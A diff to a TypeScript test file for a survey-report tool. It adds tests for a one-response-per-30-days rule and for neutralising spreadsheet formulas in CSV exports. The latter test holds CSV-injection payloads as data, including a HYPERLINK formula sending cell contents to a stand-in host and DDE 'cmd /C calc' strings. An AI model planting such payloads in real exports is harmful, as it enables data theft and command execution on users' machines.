@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { renderReportHtml } from "../../src/feedback/html.js";
 import { CSV_COLUMNS, renderCsv, renderShortText, renderText } from "../../src/feedback/render.js";
@@ -6,13 +7,14 @@ import type { StoredRecord } from "../../src/store/port.js";
 
 const all = (n: number) => ({ access: n, procedure: n, staff: n, result: n, feedback: n, online: n, overall: n });
 let seq = 0;
+// Each response from its own respondent unless a test says otherwise (one counts per 30 days).
 const survey = (at: string, ratings: Record<string, number>, extra: Record<string, unknown> = {}): StoredRecord => ({
-  id: `s${seq++}`,
+  id: `s${seq}`,
   at: Date.parse(at),
   flow: "survey",
   ratings,
   channel: "zalo",
-  respondent: "abcdef0123456789",
+  respondent: `respondent-${seq++}`,
   ...extra,
 });
 const NOW = Date.parse("2026-04-01T00:00:00Z");
@@ -101,10 +103,33 @@ describe("computeReport", () => {
   });
 });
 
+describe("one counted response per respondent per 30 days", () => {
+  it("counts the latest of repeats within 30 days, and both when further apart", () => {
+    const honest = Array.from({ length: 10 }, (_, i) => survey(`2026-03-0${(i % 9) + 1}T00:00:00Z`, all(5)));
+    // One respondent (one web address) sends twenty 1-star surveys within a day.
+    const forged = Array.from({ length: 20 }, (_, i) => survey(`2026-03-10T0${i % 10}:00:00Z`, all(1), { respondent: "one-address" }));
+    const r = computeReport({ survey: [...honest, ...forged] }, { now: NOW });
+    expect(r.responses).toBe(11);
+    expect(r.replaced).toBe(19);
+    expect(r.index.overall).toBe(90.9);
+    // A later opinion replaces the earlier one; a month and more apart, both count.
+    const change = computeReport({ survey: [survey("2026-01-01T00:00:00Z", all(1), { respondent: "x" }), survey("2026-01-20T00:00:00Z", all(5), { respondent: "x" })] }, { now: NOW });
+    expect([change.responses, change.index.overall]).toEqual([1, 100]);
+    const apart = computeReport({ survey: [survey("2026-01-01T00:00:00Z", all(1), { respondent: "x" }), survey("2026-02-05T00:00:00Z", all(5), { respondent: "x" })] }, { now: NOW });
+    expect([apart.responses, apart.index.overall]).toEqual([2, 50]);
+  });
+
+  it("states the rule on the dashboard", () => {
+    const html = renderReportHtml(computeReport({ survey: [survey("2026-01-01T00:00:00Z", all(5), { respondent: "x" }), survey("2026-01-02T00:00:00Z", all(4), { respondent: "x" })] }, { now: NOW }));
+    expect(html).toContain("Mỗi người được tính một phiếu trong 30 ngày");
+    expect(html).toContain("1 phiếu được thay bằng phiếu sau");
+  });
+});
+
 describe("renderCsv", () => {
   it("has a BOM, CRLF rows, fixed columns, masked text and no raw ids", () => {
     const csv = renderCsv([
-      survey("2026-03-01T00:00:00Z", all(5), { chatId: "zchat-raw-1", userId: "zuser-raw-1", comment: 'Tốt, "nhanh"; gọi 0987654321', agency: "UBND xã Tân Phú" }),
+      survey("2026-03-01T00:00:00Z", all(5), { respondent: "abcdef0123456789", chatId: "zchat-raw-1", userId: "zuser-raw-1", comment: 'Tốt, "nhanh"; gọi 0987654321', agency: "UBND xã Tân Phú" }),
       { id: "bad", at: 1, note: "not a survey" },
     ]);
     expect(csv.startsWith("\uFEFF")).toBe(true);
@@ -115,5 +140,29 @@ describe("renderCsv", () => {
     expect(lines[1]).toContain("abcdef0123456789");
     expect(lines[1]).toContain(",5,5,5,5,5,5,5,");
     expect(csv).not.toMatch(/zchat-raw-1|zuser-raw-1/);
+  });
+
+  it("neutralises formulas in every text column, keeping ratings numeric", () => {
+    const csv = renderCsv([
+      survey("2026-03-01T00:00:00Z", { ...all(5), overall: 4 }, {
+        comment: '=HYPERLINK("http://x.invalid/?d="&A1,"bấm vào")',
+        agency: "+cmd|' /C calc'!A0",
+        procedure: "@SUM(1+1)*cmd|' /C calc'!A0",
+        procedureId: "-2+3",
+        ageBand: "\t=1+1",
+      }),
+      survey("2026-03-02T00:00:00Z", all(3), { comment: "Cán bộ -- rất tốt", agency: "UBND xã Tân Phú" }),
+    ]);
+    const [header, first, second] = parse(csv.slice(1)) as string[][];
+    const col = (row: string[] | undefined, name: string) => row![header!.indexOf(name)];
+    expect(col(first, "comment")).toBe(`'=HYPERLINK("http://x.invalid/?d="&A1,"bấm vào")`);
+    expect(col(first, "agency")).toBe("'+cmd|' /C calc'!A0");
+    expect(col(first, "procedure")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(col(first, "procedure_id")).toBe("'-2+3");
+    expect(col(first, "age_band")).toBe("'\t=1+1");
+    expect(col(first, "rating_overall")).toBe("4");
+    // Ordinary text is untouched.
+    expect(col(second, "comment")).toBe("Cán bộ -- rất tốt");
+    expect(col(second, "agency")).toBe("UBND xã Tân Phú");
   });
 });
